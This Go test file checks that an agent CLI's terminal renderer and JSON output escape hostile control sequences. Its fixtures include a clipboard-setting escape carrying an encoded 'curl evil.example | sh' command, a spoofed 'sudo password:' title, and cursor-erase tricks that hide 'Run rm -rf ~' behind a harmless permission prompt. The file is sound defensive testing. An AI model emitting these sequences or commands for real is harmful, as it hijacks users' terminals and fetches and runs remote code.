package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/spf13/cobra"

	"github.com/agentbox/agentbox/event"
	"github.com/agentbox/agentbox/internal/agent/mock"
	"github.com/agentbox/agentbox/internal/inert"
	"github.com/agentbox/agentbox/internal/stacktest"
)

// Control sequences a hostile agent or command writes to take over the
// terminal of whoever watches the session.
const (
	seqClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" // OSC 52: set the clipboard
	seqTitle     = "\x1b]0;sudo password:\x07"                      // OSC 0: window title
	seqCursor    = "\x1b[1A\x1b[999D"                               // up a line, to column 1
	seqErase     = "\x1b[2K\r"                                      // erase the line, back to its start
	seqC1CSI     = "\u009b2J"                                       // 8-bit CSI: clear the screen
	seqBidi      = "\u202etxt.exe"                                  // right-to-left override
	seqMisc      = "\x00\x7f\x08\x1bc"                              // NUL, DEL, backspace, full reset
)

// hostile is every sequence at once, with visible text around them.
const hostile = "ok " + seqClipboard + seqTitle + seqCursor + seqErase + "✓ allowed by user" + seqC1CSI + seqBidi + seqMisc + " end"

// hostileEvents puts the sequences in every place a session's text reaches
// the screen: agent text (streamed and whole, reasoning), command names and
// output (streamed and whole), tool names, inputs and output, file names and
// diffs, plans, web searches, permission titles and details, questions,
// violations, errors, turn and session messages.
func hostileEvents() []event.Event {
	s := &script{}
	s.add(&event.SessionStarted{Agent: "mock", Model: "m" + seqTitle, Cwd: "/w/" + seqClipboard})
	s.turn = "turn_1"
	s.add(&event.TurnStarted{TurnID: "turn_1"})
	s.add(&event.ItemStarted{Item: event.Item{ID: "m1", Kind: event.ItemMessage, Status: event.StatusInProgress, Role: event.RoleAssistant}})
	// A sequence split across deltas must not survive either.
	s.add(&event.ItemDelta{ItemID: "m1", Field: event.DeltaText, Delta: "text \x1b"})
	s.add(&event.ItemDelta{ItemID: "m1", Field: event.DeltaText, Delta: "]52;c;aGk=\x07 " + hostile + "\n"})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "m1", Kind: event.ItemMessage, Status: event.StatusCompleted, Role: event.RoleAssistant}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "m2", Kind: event.ItemMessage, Status: event.StatusCompleted, Role: event.RoleAssistant,
		Content: []event.ContentPart{event.TextPart("whole " + hostile)}}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "r1", Kind: event.ItemReasoning, Status: event.StatusCompleted,
		Content: []event.ContentPart{event.TextPart("thinking " + seqCursor + seqErase)}}})
	s.add(&event.ItemStarted{Item: event.Item{ID: "c1", Kind: event.ItemCommand, Status: event.StatusInProgress, Command: "ls " + seqTitle}})
	s.add(&event.ItemDelta{ItemID: "c1", Field: event.DeltaOutput, Delta: "out " + hostile + "\n"})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "c1", Kind: event.ItemCommand, Status: event.StatusCompleted, Command: "ls", ExitCode: exit(0)}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "c2", Kind: event.ItemCommand, Status: event.StatusFailed, Argv: []string{"sh", "-c", seqC1CSI},
		Output: "whole output " + hostile + "\r\nnext line\n", ExitCode: exit(1)}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "t1", Kind: event.ItemToolCall, Status: event.StatusFailed, Name: "Read" + seqErase,
		Input: json.RawMessage(`{"file_path":"` + seqC1CSI + seqBidi + `\u001b[2J"}`), Output: "tool " + hostile, Error: "failed " + seqTitle}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "f1", Kind: event.ItemFileChange, Status: event.StatusCompleted, Changes: []event.FileChange{
		{Path: "evil" + seqClipboard + ".go", Kind: event.FileAdd, Diff: "+++ b/evil.go\n+" + hostile + "\n"},
		{Path: "gpj" + seqBidi, Kind: event.FileDelete},
	}}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "p1", Kind: event.ItemPlan, Status: event.StatusCompleted, Entries: []event.PlanEntry{
		{Content: "step " + seqCursor, Status: "completed"},
	}}})
	s.add(&event.ItemCompleted{Item: event.Item{ID: "w1", Kind: event.ItemWebSearch, Status: event.StatusCompleted, Query: "q" + seqTitle}})
	s.add(&event.PermissionRequested{ID: "perm_1", Kind: event.PermCommand, Title: "Run ls" + seqErase + "Run rm -rf ~", Detail: "detail " + hostile,
		Host: "h" + seqC1CSI, Port: 443})
	s.add(&event.PermissionResolved{ID: "perm_1", Decision: event.DecisionDeny, By: event.ByUser, Message: "no " + seqCursor})
	s.add(&event.QuestionRequested{ID: "q1", Prompt: "Which?" + seqClipboard, Options: []event.QuestionOption{{ID: "a", Label: "a" + seqBidi}}})
	s.add(&event.QuestionResolved{ID: "q1", Answer: "x" + seqMisc, By: event.ByUser})
	s.add(&event.SandboxViolation{Kind: event.ViolationFilesystem, Action: event.ActionBlocked, Detail: "write " + seqErase, Path: "/etc/" + seqC1CSI})
	s.add(&event.Error{Code: "c" + seqTitle, Message: "error " + hostile})
	s.add(&event.Native{NativeType: "n" + seqClipboard})
	s.add(&event.TurnCompleted{TurnID: "turn_1", StopReason: event.StopError, Message: "stop " + hostile, DurationMS: 1})
	s.turn = ""
	s.add(&event.SessionEnded{Reason: event.EndError, Message: "ended " + seqErase, StderrTail: "tail " + hostile})
	return s.evs
}

// ownStyles are the only control sequences the renderer may write.
var ownStyles = []string{styleReset, styleBold, styleDim, styleRed, styleGreen, styleYellow, styleCyan}

// checkInert fails when out holds a character that steers a terminal other
// than the renderer's own colour codes.
func checkInert(t *testing.T, what, out string) {
	t.Helper()
	for _, st := range ownStyles {
		out = strings.ReplaceAll(out, st, "")
	}
	for i, r := range out {
		if r == utf8.RuneError || inert.Unsafe(r) && r != '\n' && r != '\t' {
			t.Errorf("%s: %U reaches the terminal at byte %d: %q", what, r, i, out[max(0, i-20):min(len(out), i+20)])
			return
		}
	}
}

func TestRenderHostileGolden(t *testing.T) {
	t.Parallel()
	for _, color := range []bool{false, true} {
		var b bytes.Buffer
		r := NewRenderer(&b, color)
		for _, ev := range hostileEvents() {
			r.Render(ev)
		}
		r.Flush()
		if err := r.Err(); err != nil {
			t.Fatal(err)
		}
		name := "render_hostile.golden"
		if color {
			name = "render_hostile_color.golden"
		}
		checkInert(t, name, b.String())
		golden(t, name, b.Bytes())
	}
}

func TestTermSafe(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"plain text, tabs\tand\nnewlines\n", "plain text, tabs\tand\nnewlines\n"},
		{"unicode: héllo ✓ 日本", "unicode: héllo ✓ 日本"},
		{seqClipboard, `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`},
		{seqTitle, `\x1b]0;sudo password:\x07`},
		{seqCursor + seqErase, `\x1b[1A\x1b[999D\x1b[2K\x0d`},
		{seqC1CSI, `\u009b2J`},
		{"\u0085\u009d\u009f", `\u0085\u009d\u009f`},
		{seqBidi, `\u202etxt.exe`},
		{"\u2066\u2069\u200e\u061c", `\u2066\u2069\u200e\u061c`},
		{seqMisc, `\x00\x7f\x08\x1bc`},
		{"crlf\r\nline\r\n", "crlf\nline\n"},
		{"bad \xff\x9b utf-8", `bad \xff\x9b utf-8`},
		{"\ufffd stays", "\ufffd stays"},
		// Characters that hide themselves or split a line in a text view.
		{"rm\u200b -rf\u200d ~\ufeff", `rm\u200b -rf\u200d ~\ufeff`},
		{"line\u2028sep\u2029para", `line\u2028sep\u2029para`},
		{"pua\ue000 \U000f0000 tag\U000e0041", `pua\ue000 \U000f0000 tag\U000e0041`},
	}
	for _, tt := range tests {
		if got := termSafe(tt.in); got != tt.want {
			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestEscapeJSONControls checks the characters JSON leaves raw are escaped
// in JSON for a terminal, and the JSON still means the same.
func TestEscapeJSONControls(t *testing.T) {
	t.Parallel()
	in := "a\x7f\u009b\u202e\u200b\ufeff\U000f0000\U000e0041 ✓ 日 \U0001f600"
	raw, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	got := escapeJSONControls(raw)
	want := `"a\u007f\u009b\u202e\u200b\ufeff\udb80\udc00\udb40\udc41 ✓ 日 \U0001f600"`
	want = strings.Replace(want, `\U0001f600`, "\U0001f600", 1)
	if string(got) != want {
		t.Errorf("escapeJSONControls(%s) = %s, want %s", raw, got, want)
	}
	var back string
	if err := json.Unmarshal(got, &back); err != nil || back != in {
		t.Errorf("the escaped JSON decodes to %q (%v), want %q", back, err, in)
	}
}

// TestDecodeForTerminalEveryField fills every string of every payload type
// with an escape sequence and checks that none is left after decoding for
// the terminal: a field added to the schema later is covered without a
// change here.
func TestDecodeForTerminalEveryField(t *testing.T) {
	t.Parallel()
	for _, typ := range event.Types {
		p := event.NewPayload(typ)
		fillStrings(reflect.ValueOf(p), seqClipboard+seqC1CSI)
		ev := event.New(event.SourceAgent, p)
		ev.SessionID, ev.TurnID, ev.NativeSessionID = "ses"+seqTitle, "turn"+seqTitle, "n"+seqTitle
		got, gp, err := decodeForTerminal(ev)
		if err != nil {
			t.Fatalf("%s: %v", typ, err)
		}
		var found []string
		walkStrings(reflect.ValueOf(gp), func(s string) {
			if strings.ContainsAny(s, "\x1b\u009b") {
				found = append(found, s)
			}
		})
		walkStrings(reflect.ValueOf(got), func(s string) {
			if strings.ContainsAny(s, "\x1b\u009b") {
				found = append(found, s)
			}
		})
		if len(found) > 0 {
			t.Errorf("%s: raw control sequences left: %q", typ, found)
		}
	}
}

// fillStrings sets every string (and JSON raw message) reachable from v to
// s, creating one element in slices and allocating pointers.
func fillStrings(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fillStrings(v.Elem(), s)
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fillStrings(v.Field(i), s)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			b, _ := json.Marshal(s)
			v.SetBytes(b)
			return
		}
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		fillStrings(v.Index(0), s)
	case reflect.String:
		v.SetString(s)
	}
}

func walkStrings(v reflect.Value, f func(string)) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			walkStrings(v.Elem(), f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				walkStrings(v.Field(i), f)
			}
		}
	case reflect.Slice, reflect.Array:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			// JSON escapes ESC itself; only a raw C1 could survive there.
			f(string(v.Bytes()))
			return
		}
		for i := range v.Len() {
			walkStrings(v.Index(i), f)
		}
	case reflect.String:
		f(v.String())
	}
}

// hostileScript makes the mock agent ask a permission and a question
// whose texts carry control sequences, run a command (whose text carries
// some too) that writes them on its output, and say something with more;
// with fail, the turn then fails with an error message carrying them.
func hostileScript(t *testing.T, fail bool) string {
	steps := []mock.Step{
		{Kind: mock.KindPermission, Text: "Run ls" + seqErase + seqCursor + "Run something else" + seqClipboard},
		{Kind: mock.KindCommand, Command: printfOf(hostile+"\n") + " # cat" + seqBidi},
		{Kind: mock.KindQuestion, Text: "Pick" + seqTitle, Options: []event.QuestionOption{{ID: "a", Label: "one" + seqC1CSI}}},
		{Kind: mock.KindText, Text: "done" + seqMisc},
	}
	if fail {
		steps = append(steps, mock.Step{Kind: mock.KindError, Text: "boom " + hostile})
	}
	return mockScript(t, steps...)
}

// printfOf is a shell command that prints s, with every byte but plain
// ASCII written as an octal escape (the command's text stays printable).
func printfOf(s string) string {
	var b strings.Builder
	b.WriteString("printf '")
	for _, c := range []byte(s) {
		if c >= 0x20 && c < 0x7f && c != '\\' && c != '%' && c != '\'' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\%03o", c)
		}
	}
	b.WriteString("'")
	return b.String()
}

// TestRunHostile runs a session whose agent writes control sequences: the
// rendered events on stdout and the prompts on stderr stay inert, with and
// without colour, and so does the error run prints when the turn fails with
// the agent's own message (claude's result text, for one).
func TestRunHostile(t *testing.T) {
	t.Parallel()
	tests := []struct {
		stop event.StopReason
		code int
		// stderr is what the failed turn's message shows as, beyond the prompts.
		stderr string
	}{
		{event.StopEndTurn, 0, ""},
		{event.StopError, 1, `failed: boom ok \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`},
	}
	for _, tt := range tests {
		for _, terminal := range []bool{false, true} {
			t.Run(fmt.Sprint(tt.stop, "/terminal=", terminal), func(t *testing.T) {
				t.Parallel()
				h := newHarness(t, stacktest.Options{})
				h.terminal = terminal
				r := h.run(t.Context(), strings.NewReader("y\n1\n"), "run", "--agent", "mock", hostileScript(t, tt.stop == event.StopError))
				stderr := []string{`Allow Run ls\x1b[2K\x0d\x1b[1A\x1b[999DRun something else\x1b]52;c;`, `1) one\u009b2J`}
				if tt.stderr != "" {
					stderr = append(stderr, tt.stderr)
				}
				r.check(t, tt.code, []string{`Run ls\x1b[2K`, `\x1b]52;c;`}, stderr)
				checkInert(t, "stdout", r.stdout)
				checkInert(t, "stderr", r.stderr)
			})
		}
	}
}

// TestEventsJSONTerminal checks that JSON written to a terminal carries no
// raw C1, DEL or bidi control (JSON already escapes C0) and still decodes
// to the same events; to a pipe it is left as encoding/json writes it.
func TestEventsJSONTerminal(t *testing.T) {
	t.Parallel()
	h := newHarness(t, stacktest.Options{})
	r := h.run(t.Context(), strings.NewReader("y\n1\n"), "run", "--agent", "mock", hostileScript(t, false))
	if r.code != 0 {
		t.Fatalf("run: %+v", r)
	}
	id := sessionOf(t, r)
	h.terminal = false
	piped := h.run(t.Context(), nil, "--json", "sessions", "events", id)
	h.terminal = true
	tty := h.run(t.Context(), nil, "--json", "sessions", "events", id)
	if piped.code != 0 || tty.code != 0 {
		t.Fatalf("events: %+v %+v", piped, tty)
	}
	if !strings.Contains(piped.stdout, "\u009b") {
		t.Fatalf("the piped JSON lost its C1 character (the test no longer tests anything):\n%s", piped.stdout)
	}
	checkInert(t, "events --json on a terminal", tty.stdout)
	pl, tl := strings.Split(piped.stdout, "\n"), strings.Split(tty.stdout, "\n")
	if len(pl) != len(tl) {
		t.Fatalf("%d lines piped, %d on a terminal", len(pl), len(tl))
	}
	for i := range pl {
		if pl[i] == "" {
			continue
		}
		var a, b event.Event
		if err := json.Unmarshal([]byte(pl[i]), &a); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(tl[i]), &b); err != nil {
			t.Fatalf("line %d is not JSON on a terminal: %v\n%s", i, err, tl[i])
		}
		if !bytes.Equal(a.Data, b.Data) && !jsonEqual(t, a.Data, b.Data) {
			t.Errorf("line %d decodes differently:\n%s\n%s", i, a.Data, b.Data)
		}
	}
}

func jsonEqual(t *testing.T, a, b []byte) bool {
	t.Helper()
	var x, y any
	if json.Unmarshal(a, &x) != nil || json.Unmarshal(b, &y) != nil {
		return false
	}
	return reflect.DeepEqual(x, y)
}

// TestExecuteErrorInert checks the last error printed, whatever command
// returned it and whatever it quotes (a daemon's problem detail, an agent's
// message), reaches the terminal inert.
func TestExecuteErrorInert(t *testing.T) {
	t.Parallel()
	root := newRoot("test", env{getenv: func(string) string { return "" }, isTerminal: func(any) bool { return true }})
	root.AddCommand(&cobra.Command{Use: "fail", RunE: func(*cobra.Command, []string) error {
		return &ExitError{Code: 3, Err: fmt.Errorf("wrapped: %w", errors.New(hostile))}
	}})
	var stderr bytes.Buffer
	root.SetArgs([]string{"fail"})
	root.SetErr(&stderr)
	if code := Execute(t.Context(), root); code != 3 {
		t.Errorf("exit code %d, want 3", code)
	}
	if !strings.Contains(stderr.String(), `wrapped: ok \x1b]52;c;`) {
		t.Errorf("stderr lacks the error: %q", stderr.String())
	}
	checkInert(t, "stderr", stderr.String())
}
